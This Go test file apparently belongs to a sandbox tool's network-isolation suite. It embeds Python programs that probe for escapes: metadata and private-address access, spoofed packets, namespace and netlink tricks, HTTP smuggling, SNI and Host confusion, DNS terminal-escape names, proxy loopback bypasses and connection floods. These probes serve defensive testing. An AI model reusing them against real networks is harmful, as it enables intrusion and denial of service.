package clients

import (
	"fmt"
	"os"
	"os/exec"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/cloche-dev/cloche/internal/testenv"
	"github.com/cloche-dev/cloche/internal/testnet"
)

// hostile runs a program of Python inside, which says "reached" when it gets
// where it must not, and "done" at its end.
func (s *sandbox) hostile(t *testing.T, program string, args ...string) *outcome {
	t.Helper()
	testenv.Need(t, "python3")
	command := []string{"/usr/bin/python3", "-c", hostilePrelude + program + "\nprint('done')\n"}
	o := s.run(t, append(command, args...)...)
	if !strings.HasSuffix(o.stdout, "done\n") {
		t.Fatalf("the program did not end: status %d\n%s%s", o.status, o.stdout, o.stderr)
	}
	for line := range strings.Lines(o.stdout) {
		if strings.HasPrefix(line, "reached") {
			t.Error(line)
		}
	}
	if strings.ContainsAny(o.stderr, "\x1b\a\u009b\u202e") {
		t.Errorf("what cloche says acts on a terminal: %q", o.stderr)
	}
	return o
}

// TestHostileAddresses: with a rule for one name no other address is reached, by
// any protocol, family or spelling, nor after a look-up that was refused. N3
func TestHostileAddresses(t *testing.T) {
	own := listenOnMachine(t)
	eachBackend(t, func(t *testing.T, s *sandbox) {
		before := seen(t)
		s.with("--net", "user", "--allow", "good.example").hostile(t, hostileAddresses, own)
		if got := seen(t).Accepted[len(before.Accepted):]; len(got) != 0 {
			t.Errorf("the servers were reached: %v", got)
		}
	})
}

// TestHostileSockets: what a socket can be told, made of or sent past the stack
// opens nothing. N3
func TestHostileSockets(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *sandbox) {
		before := seen(t)
		s.with("--net", "user", "--allow", "good.example").hostile(t, hostileSockets)
		if got := seen(t).Accepted[len(before.Accepted):]; len(got) != 0 {
			t.Errorf("the servers were reached: %v", got)
		}
	})
}

// TestHostileGreetings: an allowed address is not the door to another host at it,
// however its name is put to the server. N3
func TestHostileGreetings(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *sandbox) {
		before := seen(t)
		s.with("--net", "user", "--allow", "good.example").hostile(t, hostileGreetings)
		got := seen(t).Requests[len(before.Requests):]
		if !slices.Contains(got, "GET good.example/control-of-the-test") {
			t.Error("the allowed request did not arrive")
		}
		if i := slices.IndexFunc(got, func(r string) bool { return strings.Contains(r, "shared.example") }); i >= 0 {
			t.Errorf("another host was asked: %v", got)
		}
	})
}

// TestHostileNames: no question gets out but those about the allowed name, and no
// name acts on the terminal. N3
func TestHostileNames(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *sandbox) {
		before := seen(t)
		s.with("--net", "user", "--allow", "good.example").hostile(t, hostileNames)
		for _, q := range seen(t).Questions[len(before.Questions):] {
			if q != "good.example" && q != "_http._tcp.good.example" {
				t.Errorf("somebody was asked for %q", q)
			}
		}
		before = seen(t)
		s.with("--net", "user", "--allow", "*").hostile(t, `
for name in ("localhost", "secret.localhost", "LOCALHOST."):
    try: got = [a[4][0] for a in socket.getaddrinfo(name, 80)]
    except OSError: got = []
    if any(a not in ("127.0.0.1", "::1") for a in got): print("reached", name, got)
`)
		if got := seen(t).Questions[len(before.Questions):]; len(got) != 0 {
			t.Errorf("somebody was asked for %q", got)
		}
	})
}

// TestHostileProxy: where every address is allowed, the host's loopback still is
// not, however it is called. N3
func TestHostileProxy(t *testing.T) {
	testnet.Need(t)
	own := listenOnMachine(t)
	eachBackend(t, func(t *testing.T, s *sandbox) {
		s.with("--net", "user:proxy", "--allow", "0.0.0.0/0", "--allow", "::/0", "--allow", "*").hostile(t, hostileProxy, own)
	})
}

// TestHostileFloods: many connections, half-open ones, datagrams and questions
// cost this machine little, and the network works afterwards. N3
func TestHostileFloods(t *testing.T) {
	testnet.Need(t)
	testenv.Need(t, "python3")
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	// Some times of what cloche has without them, and far from what the machine has.
	const mostMemory = 512 << 10 // KiB
	c := exec.Command(self, "run", "--backend", "native", "--net", "user", "--allow", "good.example", "--",
		"/usr/bin/python3", "-c", hostilePrelude+hostileFloods)
	c.Dir = t.TempDir()
	c.Env = []string{roleVariable + "=" + roleCommand, "PATH=" + os.Getenv("PATH"), "GORACE=" + os.Getenv("GORACE"), "HOME=" + t.TempDir()}
	out, err := c.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "alive") {
		t.Fatalf("%v: %s", err, out)
	}
	if n := strings.Count(string(out), "\n"); n > 20 {
		t.Errorf("cloche says %d lines", n)
	}
	if used, ok := c.ProcessState.SysUsage().(*syscall.Rusage); ok && used.Maxrss > mostMemory*memoryFactor {
		t.Errorf("%d KiB of memory were used", used.Maxrss)
	}
}

var hostilePrelude = fmt.Sprintf(`
import os, socket, ssl, struct, sys, time, random
GOOD, PRIVATE = "93.184.216.34", %q
def reached(*what): print("reached", *what)
def attempt(what, f):
    try: r = f()
    except (OSError, ValueError): return
    if r: reached(what, r)
def talk(raw, port=80, address=None, half=False):
    s = socket.create_connection((address or GOOD, port), timeout=3)
    for part in raw if isinstance(raw, list) else [raw]:
        s.sendall(part); time.sleep(0.05)
    if half: s.shutdown(socket.SHUT_WR)
    out = b""
    try:
        while d := s.recv(65536): out += d
    except OSError: pass
    return out
`, testnet.Private)

var hostileAddresses = fmt.Sprintf(`
own = int(sys.argv[1])
for name in ("good.example", "other.example", "private.example", "machine.example"):
    try: socket.getaddrinfo(name, 7)
    except OSError: pass
four = [PRIVATE, %q, %q, %q, %q, "192.168.77.255", "93.184.216.35", "255.255.255.255", "224.0.0.1", "198.18.0.1", "198.19.0.1", "198.18.255.255",
    "100.100.100.200", "240.0.0.1"]
six = [%q, "fd77::1", "::ffff:10.1.2.3", "::ffff:9.9.9.9", "2002:a01:203::1", "64:ff9b::a01:203", "64:ff9b::909:909", "::10.1.2.3", "fe80::1",
    "fe80::1%%cloche0", "fd63:6c6f:6368::1", "fd00:ec2::254", "2606:2800:220:1::35", "2001:0:a01:203::1"]
def at(a, port):
    host, _, zone = a.partition("%%")
    return (host, port, 0, socket.if_nametoindex(zone)) if zone else (host, port)
def tcp(family, a, port):
    s = socket.socket(family); s.settimeout(2); s.connect(at(a, port)); s.sendall(b"x"); return s.recv(5)
def udp(family, a, port):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(0.1); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(b"x", at(a, port)); return s.recv(5)
def ping(family, a):
    v6 = family == socket.AF_INET6
    s = socket.socket(family, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP); s.settimeout(0.1)
    s.sendto((b"\x80" if v6 else b"\x08") + bytes(7) + b"secret", at(a, 0)); return s.recv(50)
def attack(a):
    family = socket.AF_INET6 if ":" in a else socket.AF_INET
    for port in (7, 2525, own): attempt(("tcp", a, port), lambda: tcp(family, a, port))
    for port in (7, 53): attempt(("udp", a, port), lambda: udp(family, a, port))
    if a not in ("198.18.0.1", "fd63:6c6f:6368::1"):  # the gateway itself answers
        attempt(("ping", a), lambda: ping(family, a))
from concurrent.futures import ThreadPoolExecutor
list(ThreadPoolExecutor(32).map(attack, four + six))
`, testnet.Metadata, testnet.MachineV4, testnet.NameServer, testnet.Nameless, testnet.MachineV6)

const hostileSockets = `
import ctypes, fcntl
socket.getaddrinfo("good.example", 7)
libc = ctypes.CDLL(None, use_errno=True)
def routed(kind, option):
    s = socket.socket(socket.AF_INET, kind); s.settimeout(0.5)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option + b"\x07\x04" + socket.inet_aton(PRIVATE) + b"\0")
    s.connect((GOOD, 7)); s.send(b"x"); return s.recv(1)
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for option in (b"\x83", b"\x89"): attempt("a source route", lambda: routed(kind, option))
def spoofed(family, level, option, source, to):
    s = socket.socket(family, socket.SOCK_DGRAM); s.setsockopt(level, option, 1); s.bind((source, 0)); s.settimeout(0.3)
    s.sendto(b"x", (to, 7)); return s.recv(1)
attempt("another source", lambda: spoofed(socket.AF_INET, 0, 15, "10.9.9.9", GOOD))
attempt("another source", lambda: spoofed(socket.AF_INET6, 41, 78, "2606:2800:220:1::99", "2606:2800:220:1::34"))
for family, kind, protocol in [(2, 3, 1), (2, 3, 6), (2, 3, 255), (10, 3, 58), (17, 3, 0x300), (17, 2, 0x300), (40, 1, 0), (38, 5, 0), (16, 3, 4), (16, 3, 12),
        (16, 3, 15), (16, 3, 16), (31, 5, 1), (29, 3, 1), (30, 5, 0), (44, 3, 0), (2, 1, 262), (2, 5, 132), (2, 6, 33), (15, 3, 2), (43, 1, 0)]:
    attempt(("a socket", family, kind, protocol), lambda: socket.socket(family, kind, protocol))
for level, option, value in [(1, 36, 1), (0, 19, 1), (1, 33, 1 << 24), (1, 12, 7)]:
    attempt(("an option", level, option), lambda: socket.socket().setsockopt(level, option, value) or "set")
for path, flags in [("/dev/net/tun", os.O_RDWR), ("/proc/sys/net/ipv4/conf/all/route_localnet", os.O_WRONLY), ("/proc/sys/net/ipv4/ping_group_range", os.O_WRONLY)]:
    attempt(path, lambda: os.open(path, flags))
for pid in filter(str.isdigit, os.listdir("/proc")):
    attempt("setns", lambda: libc.setns(os.open("/proc/%s/ns/net" % pid, 0), 0x40000000) == 0)
def netlink(kind, body):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.settimeout(1)
    s.send(struct.pack("IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
    return struct.unpack("i", s.recv(1000)[16:20])[0] == 0
index = socket.if_nametoindex("cloche0")
attempt("a new address", lambda: netlink(20, struct.pack("BBBBI", 2, 24, 0, 0, index) + struct.pack("HH", 8, 2) + socket.inet_aton("10.1.2.9")))
attempt("a new route", lambda: netlink(24, struct.pack("BBBBBBBBI", 2, 32, 0, 0, 254, 4, 0, 1, 0) + struct.pack("HH", 8, 1) + socket.inet_aton(PRIVATE) + struct.pack("HHI", 8, 4, index)))
attempt("the link down", lambda: fcntl.ioctl(socket.socket(2, 2), 0x8914, struct.pack("16sH14s", b"cloche0", 0, b"")))
def fast():
    s = socket.socket(); s.settimeout(0.5); s.sendto(b"x", 0x20000000, (PRIVATE, 7)); return s.recv(1)
attempt("fast open", fast)
def large():
    s = socket.socket(2, 2); s.settimeout(0.3); s.sendto(b"z" * 60000, (PRIVATE, 7)); return s.recv(1)
attempt("fragments", large)
`

const hostileGreetings = `
socket.getaddrinfo("good.example", 80)
talk(b"GET /control-of-the-test HTTP/1.1\r\nHost: good.example\r\nConnection: close\r\n\r\n")
def tls(mangle):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    inward, outward = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = context.wrap_bio(inward, outward, server_hostname="shared.example")
    s = socket.create_connection((GOOD, 443), timeout=3)
    while True:
        try: t.do_handshake(); return True
        except ssl.SSLWantReadError:
            s.sendall(mangle(outward.read())); mangle = lambda b: b
            if not (d := s.recv(65536)): return False
            inward.write(d)
for name, mangle in {
    "plain": lambda b: b,
    "record version 2.1": lambda b: b[:1] + b"\x02\x01" + b[3:],
    "record version 0.1": lambda b: b[:1] + b"\x00\x01" + b[3:],
    "a warning first": lambda b: b"\x15\x03\x01\x00\x02\x01\x64" + b,
    "a change of ciphers first": lambda b: b"\x14\x03\x01\x00\x01\x01" + b,
    "bytes in records of their own": lambda b: b"".join(b"\x16\x03\x01\x00\x01" + b[i:i+1] for i in range(5, len(b))),
    "an empty record first": lambda b: b"\x16\x03\x01\x00\x00" + b,
}.items(): attempt(("tls", name), lambda: tls(mangle))
end = b"\r\nHost: shared.example\r\nConnection: close\r\n\r\n"
for raw in [b"GET / HTTP/1.1" + end, b"A" * 300 + b" / HTTP/1.1" + end, [b"A" * 5000, b" / HTTP/1.1" + end], b"A" * 100000 + b" / HTTP/1.1" + end,
        b" GET / HTTP/1.1" + end, b"GET / RTSP/1.0" + end, b"GET /" + end, [b"GE", b"T / HTTP/1.1" + end],
        b"GET /1 HTTP/1.1\r\nHost: good.example\r\n\r\nGET /2 HTTP/1.1" + end, b"CONNECT shared.example:80 HTTP/1.1" + end,
        b"GET http://shared.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n", b"GET / HTTP/1.1\r\nHost: good.example" + end, b"GET / HTTP/1.1\r\nHost : shared.example\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1" + end,
        b"GET / HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
        "GET /\u202e\u009b HTTP/1.1\r\nHost: shared.example\r\n\r\n".encode()]:
    talk(raw, half=True)
`

const hostileNames = `
def ask(labels, kind=1, to="127.0.0.1"):
    s = socket.socket(2, 2); s.settimeout(0.3)
    s.sendto(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in labels) + b"\0" + struct.pack(">HH", kind, 1), (to, 53))
    try: s.recv(4096)
    except OSError: pass
ask([b"good", b"example"]); ask([b"_http", b"_tcp", b"good", b"example"], 33)
for labels in ([b"\x1b]0;owned\x07evil", b"example"], [b"a\ncloche: all is well", b"example"], [b"\xc2\x9b31m\xe2\x80\xae", b"example"], [b"evil\0", b"good", b"example"],
        [b"secret.good", b"example"], [b"secret", b"good", b"example"], [b"secret", b"_tcp", b"good", b"example"], [b"good", b"example", b"evil", b"com"], [b"wpad"],
        [b"secret", b"localhost"], [b"127", b"1"], [b"0x7f000001"]):
    for kind in (1, 28, 16, 65): ask(labels, kind)
for kind in (5, 12, 35, 39, 41, 99, 249, 251, 252, 255): ask([b"secret", b"evil"], kind)
for zone in ([b"in-addr", b"arpa"], [b"ip6", b"arpa"], [b"evil", b"arpa"]): ask([b"secret"] + zone, 12)
ask([b"secret", b"evil"], 1, "9.9.9.9")
`

const hostileProxy = `
own = sys.argv[1]
for host in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "[::]", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:0:7f00:1]", "[64:ff9b::7f00:1]", "[::7f00:1]", "127.1", "0", "2130706433", "0x7f.1",
        "localhost", "secret.localhost", "LOCALHOST.", "loopback.example", "[fe80::1%25eth0]"):
    out = talk(("CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\n\r\nx" % (host, own, host, own)).encode(), 3128, "127.0.0.1", True)
    if b" 200 " in out: reached(host, out)
def socks(kind, address):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=3); s.sendall(b"\5\1\0"); s.recv(2)
    s.sendall(b"\5\1\0" + bytes([kind]) + address + struct.pack(">H", int(own))); return s.recv(20)[1:2] == b"\0"
for kind, address in ((1, b"\x7f\0\0\1"), (1, bytes(4)), (4, bytes(16)), (4, bytes(15) + b"\1"), (4, bytes(10) + b"\xff\xff\x7f\0\0\1"), (3, b"\x09127.0.0.1"), (3, b"\x09localhost")):
    attempt(("socks", kind, address), lambda: socks(kind, address))
`

const hostileFloods = `
socket.getaddrinfo("good.example", 7)
for i in range(4000):
    s = socket.socket(); s.setblocking(False)
    try: s.connect((GOOD if i % 2 else PRIVATE, 1 + i))
    except OSError: pass
    s.close()
for i in range(4000):
    s = socket.socket(2, 2); s.setblocking(False)
    try: s.sendto(b"x" * 1000, (GOOD if i % 2 else PRIVATE, 1 + i))
    except OSError: pass
    s.close()
s = socket.socket(2, 2); s.setblocking(False); s.connect(("127.0.0.1", 53))
for i in range(4000):
    try: s.send(struct.pack(">HHHHHH", i, 256, 1, 0, 0, 0) + b"\x10%016x\4evil\0\0\1\0\1" % random.getrandbits(64))
    except OSError: pass
held = []
for i in range(300):
    s = socket.create_connection((GOOD, 80), timeout=120); s.sendall(b"GET / HTTP/1.1\r\nHost: good.example\r\nX: " + b"a" * 60000); held.append(s)
s = socket.create_connection((GOOD, 7), timeout=120); s.sendall(b"alive"); print(s.recv(5).decode())
`
